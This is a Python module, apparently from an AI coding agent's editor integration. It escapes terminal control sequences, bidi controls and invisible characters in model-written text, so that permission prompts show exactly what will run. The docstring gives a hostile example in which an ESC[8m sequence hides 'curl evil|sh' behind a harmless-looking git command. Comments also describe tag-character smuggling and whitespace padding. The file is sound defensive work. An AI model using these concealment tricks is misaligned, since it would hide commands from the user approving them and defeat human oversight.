"""Model-written text made safe to show: nothing in it may act instead of print.

A terminal obeys escape sequences (``ESC [8m`` conceals what follows, so
``git fetch #<ESC>[8m<newline>curl evil|sh`` shows as ``git fetch #`` and the user
allows a download they never saw); ``\\r`` moves back over what was printed; bidi
controls reorder what an editor shows (Trojan Source). :func:`escape_control`
replaces each such character by a visible, printable spelling, so what the user
reads is what will run. The same rules are written out in each editor client
(VS Code ``display.ts``, Neovim ``format.lua``, Emacs ``agent-lsp-escape-control``).

The output holds no character it would replace, so escaping twice changes nothing:
the server escapes what it sends for display, and a client may escape it again.
A backslash is left as it is (so ``\\e`` typed by the model looks like an escaped
ESC): escaping it would break that idempotence, and it hides nothing.
"""

from __future__ import annotations

import re

NEWLINE_MARK = "⏎"

# Every format character (Unicode category Cf: bidi controls, zero-width characters, the soft
# hyphen, U+180E, the deprecated U+206A–206F, the tag characters U+E0000–E007F that can
# carry a hidden text), the line and paragraph separators (Zl, Zp), lone surrogates (Cs),
# and the fillers that are letters by category but show as nothing. Unicode 15's Cf set;
# tests/test_display.py checks it against the running Python's ``unicodedata``.
_INVISIBLE_RANGES = [
    (0x00AD, 0x00AD),
    (0x0600, 0x0605),
    (0x061C, 0x061C),
    (0x06DD, 0x06DD),
    (0x070F, 0x070F),
    (0x0890, 0x0891),
    (0x08E2, 0x08E2),
    (0x115F, 0x1160),  # Hangul choseong and jungseong fillers
    (0x180E, 0x180E),
    (0x200B, 0x200F),
    (0x2028, 0x202E),
    (0x2060, 0x2064),
    (0x2066, 0x206F),
    (0x3164, 0x3164),  # Hangul filler
    (0xD800, 0xDFFF),
    (0xFEFF, 0xFEFF),
    (0xFFA0, 0xFFA0),  # halfwidth Hangul filler
    (0xFFF9, 0xFFFB),
    (0x110BD, 0x110BD),
    (0x110CD, 0x110CD),
    (0x13430, 0x1343F),
    (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A),
    (0xE0000, 0xE007F),
]
# Only in what the user consents to: private-use characters (a font may draw anything, or
# nothing), variation selectors (invisible, and able to smuggle bytes behind a letter) and
# the other marks that draw as nothing.
_CONSENT_RANGES = [
    (0x034F, 0x034F),  # combining grapheme joiner
    (0x17B4, 0x17B5),  # Khmer inherent vowels (drawn as nothing)
    (0x180B, 0x180D),  # Mongolian free variation selectors
    (0x180F, 0x180F),
    (0x2065, 0x2065),  # unassigned, in the invisible operators' block
    (0xE000, 0xF8FF),
    (0xFE00, 0xFE0F),
    (0xE0100, 0xE01EF),
    (0xF0000, 0x10FFFF),
]
# Blank characters: a run longer than CONSENT_BLANK_RUN of them is shown as one marker, so
# a command cannot push its tail out of sight with hundreds of spaces.
_BLANKS = " \t\u00a0\u1680\u2000-\u200a\u202f\u205f\u2800\u3000"
CONSENT_BLANK_RUN = 3


def escape_code(code: int) -> str:
    return f"\\u{code:04x}" if code <= 0xFFFF else f"\\u{{{code:x}}}"


def _table(*, keep_newlines: bool) -> dict[int, str]:
    """Each character escape_control replaces, and its spelling (a few thousand entries)."""
    table = {code: f"\\x{code:02x}" for code in [*range(0x20), 0x7F, *range(0x80, 0xA0)]}
    table |= {0x1B: "\\e", ord("\r"): "\\r", ord("\n"): NEWLINE_MARK}
    del table[ord("\t")]
    if keep_newlines:
        del table[ord("\n")]
    for low, high in _INVISIBLE_RANGES:
        table |= {code: escape_code(code) for code in range(low, high + 1)}
    return table


def _ranges_class(ranges: list[tuple[int, int]]) -> str:
    return "".join(
        re.escape(chr(low)) + ("-" + re.escape(chr(high)) if high > low else "")
        for low, high in ranges
    )


def _runs(codes: list[int]) -> list[tuple[int, int]]:
    runs: list[tuple[int, int]] = []
    for code in sorted(codes):
        if runs and runs[-1][1] == code - 1:
            runs[-1] = (runs[-1][0], code)
        else:
            runs.append((code, code))
    return runs


def _patterns(table: dict[int, str]) -> tuple[re.Pattern[str], re.Pattern[str]]:
    """(the BMP characters of ``table``, its astral ones) as two character classes: a class
    of BMP characters compiles into a bitmap, one with astral ranges is matched range by
    range (several times slower on every streamed answer), so the astral pass runs only on
    text that holds an astral character at all."""
    bmp = _runs([code for code in table if code <= 0xFFFF])
    astral = _runs([code for code in table if code > 0xFFFF])
    return (
        re.compile("[" + _ranges_class(bmp) + "]"),
        re.compile("[" + _ranges_class(astral) + "]"),
    )


# Character classes find what to replace several times faster than str.translate with a
# table of strings would (this runs on every trace line and every streamed answer piece).
_ONE_LINE = _table(keep_newlines=False)
_LINES = _table(keep_newlines=True)
_ONE_LINE_RE, _ONE_LINE_ASTRAL_RE = _patterns(_ONE_LINE)
_LINES_RE, _LINES_ASTRAL_RE = _patterns(_LINES)
_ANY_ASTRAL = re.compile("[\U00010000-\U0010ffff]")
_CONSENT_ONLY_RE = re.compile("[" + _ranges_class(_CONSENT_RANGES) + "]")
_BLANK_RUN = re.compile(f"[{_BLANKS}]{{{CONSENT_BLANK_RUN + 1},}}")


def escape_control(text: str, *, keep_newlines: bool = False) -> str:
    """``text`` with every control, bidi, invisible and format character spelled out:
    ESC as ``\\e``, CR as ``\\r``, a newline as ``⏎`` (kept with ``keep_newlines``), other
    C0/DEL/C1 controls as ``\\xNN``, the rest as ``\\uXXXX`` (``\\u{XXXXX}`` beyond
    U+FFFF); tabs stay."""
    if keep_newlines:
        table, bmp, astral = _LINES, _LINES_RE, _LINES_ASTRAL_RE
    else:
        table, bmp, astral = _ONE_LINE, _ONE_LINE_RE, _ONE_LINE_ASTRAL_RE

    def spelled(match: re.Match[str]) -> str:
        return table[ord(match[0])]

    text = bmp.sub(spelled, text)
    if _ANY_ASTRAL.search(text) is not None:
        text = astral.sub(spelled, text)
    return text


def escape_consent(text: str, *, keep_newlines: bool = False) -> str:
    """What the user is asked to allow (a permission's title and reason, a command, a path,
    an MCP server's approval text): :func:`escape_control`, private-use characters and
    variation selectors spelled out too, and each run of more than
    :data:`CONSENT_BLANK_RUN` blanks shown as ``␣×N``. Idempotent, like escape_control."""
    text = escape_control(text, keep_newlines=keep_newlines)
    text = _CONSENT_ONLY_RE.sub(lambda match: escape_code(ord(match[0])), text)
    return _BLANK_RUN.sub(lambda run: f"␣×{len(run[0])}", text)
